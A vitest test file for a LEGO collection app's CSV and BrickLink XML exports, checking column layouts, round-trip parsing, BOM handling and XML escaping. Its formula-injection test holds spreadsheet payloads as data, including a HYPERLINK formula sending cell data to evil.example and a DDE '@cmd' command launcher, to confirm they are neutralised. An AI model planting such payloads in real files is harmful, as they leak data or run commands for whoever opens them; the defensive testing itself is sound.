import Papa from 'papaparse'
import { parseStringPromise } from 'xml2js'
import { describe, expect, it } from 'vitest'
import { buildExport } from '../../src/main/exchange/export-formats'
import { HOSTILE, LABELS, exportSet } from './fixtures'

/** An independent RFC 4180 parser (papaparse) reads what csv-stringify wrote. */
function parseBack(content: string): string[][] {
  const result = Papa.parse<string[]>(content.replace(/^\uFEFF/, ''), {
    skipEmptyLines: true,
    newline: '\r\n'
  })
  expect(result.errors).toEqual([])
  return result.data
}

const date = '2026-11-22'

describe('CSV exports', () => {
  it('collection list: website layout, one Yes/No column per flag label, parses back row for row', () => {
    const sets = [
      exportSet({ flags: [true, false, false, false, false, false, false, true] }),
      ...HOSTILE
    ]
    const file = buildExport('collection', sets, LABELS, { date })
    const rows = parseBack(file.content)
    expect(rows[0]).toEqual([
      'Number',
      'Set name',
      'Theme',
      'Subtheme',
      'Year',
      'Pieces',
      'Minifigs',
      'UK retail price',
      'US retail price',
      'CA retail price',
      'EU retail price',
      'Owned',
      'Wanted',
      'Qty',
      'Notes',
      'Displayed',
      'Boxed',
      'Flag 3',
      'Sealed',
      'For sale',
      'Gift',
      'Flag 7',
      'Flag 8'
    ])
    expect(rows[1]).toEqual([
      '10179-1',
      'Millennium Falcon',
      'Star Wars',
      'Ultimate Collector Series',
      '2007',
      '5195',
      '5',
      '342.49',
      '499.99',
      '',
      '',
      'Yes',
      'No',
      '1',
      '',
      'Yes',
      'No',
      'No',
      'No',
      'No',
      'No',
      'No',
      'Yes'
    ])
    expect(rows).toHaveLength(1 + sets.length)
    expect(file.rows).toBe(sets.length)
    // Quotes, commas and line breaks survive the round trip exactly.
    expect(rows[3]?.[1]).toBe('Quotes "inside", commas, and\r\nline breaks')
    expect(rows[4]?.[1]).toBe('Émile’s 🧱 set')
  })

  it('formula injection: every cell starting with = + - @ or a tab comes out as text', () => {
    for (const format of ['collection', 'studbook'] as const) {
      const rows = parseBack(buildExport(format, HOSTILE, LABELS, { date }).content)
      for (const row of rows) {
        for (const cell of row) expect(cell, `${format}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
      }
      const all = rows.flat()
      expect(all).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
      expect(all).toContain(`'+SUM(1,2)`)
      expect(all).toContain(`'-2+3`)
      expect(all).toContain(`'@cmd|' /C calc'!A0`)
      expect(all).toContain(`'\tTabbed =1+1`)
    }
  })

  it('studbook full: a row per copy with every copy field, flags by label; sets without copies once', () => {
    const file = buildExport('studbook', HOSTILE, LABELS, { date })
    const rows = parseBack(file.content)
    const header = rows[0] ?? []
    expect(header).toContain('Current estimated value')
    expect(rows).toHaveLength(1 + 1 + 1 + 2)
    const col = (name: string) => header.indexOf(name)
    const first = rows[1] ?? []
    expect(first[col('Flags')]).toBe('Displayed; Sealed')
    const copies = rows.filter((r) => r[col('Set ID')] === '3')
    expect(copies.map((r) => r[col('Currency')])).toEqual(['GBP', 'USD'])
    expect(copies.map((r) => r[col('Copy ID')])).toEqual(['7', ''])
    expect(copies[1]?.[col('Price paid')]).toBe('10.5')
    expect(copies[0]?.[col('Copy notes')]).toBe("'=1+1")
    expect(copies[0]?.[col('Flags')]).toBe('Flag 8')
  })

  it('rebrickable: owned sets only, with their quantity, in Rebrickable columns', () => {
    const rows = parseBack(buildExport('rebrickable', HOSTILE, LABELS, { date }).content)
    expect(rows).toEqual([
      ['Set Number', 'Quantity', 'Includes Spares', 'Inventory ver'],
      ['1-1', '1', 'True', '1'],
      ['3-1', '2', 'True', '1']
    ])
  })

  it('optional UTF-8 BOM', () => {
    const withBom = buildExport('rebrickable', HOSTILE, LABELS, { date, bom: true }).content
    const without = buildExport('rebrickable', HOSTILE, LABELS, { date }).content
    expect(withBom.charCodeAt(0)).toBe(0xfeff)
    expect(without.charCodeAt(0)).not.toBe(0xfeff)
    expect(withBom.slice(1)).toBe(without)
  })

  it('bricklink: a well-formed wanted list of the wanted sets, text escaped', async () => {
    const sets = [
      exportSet({ setID: 9, fullNumber: '9-1', wanted: true, notes: 'a <b> & "c"' }),
      ...HOSTILE
    ]
    const file = buildExport('bricklink', sets, LABELS, { date })
    // xml2js (sax, strict) throws on anything that is not well-formed.
    const doc = (await parseStringPromise(file.content, { explicitArray: false, trim: false })) as {
      INVENTORY: { ITEM: Record<string, string>[] }
    }
    expect(doc.INVENTORY.ITEM).toEqual([
      { ITEMTYPE: 'S', ITEMID: '9-1', MINQTY: '1', NOTIFY: 'N', REMARKS: 'a <b> & "c"' },
      { ITEMTYPE: 'S', ITEMID: '2-1', MINQTY: '1', NOTIFY: 'N', REMARKS: '\tTabbed =1+1' }
    ])
    expect(file.rows).toBe(2)
    expect(file.filename).toBe('bricklink-wanted-2026-11-22.xml')
  })
})
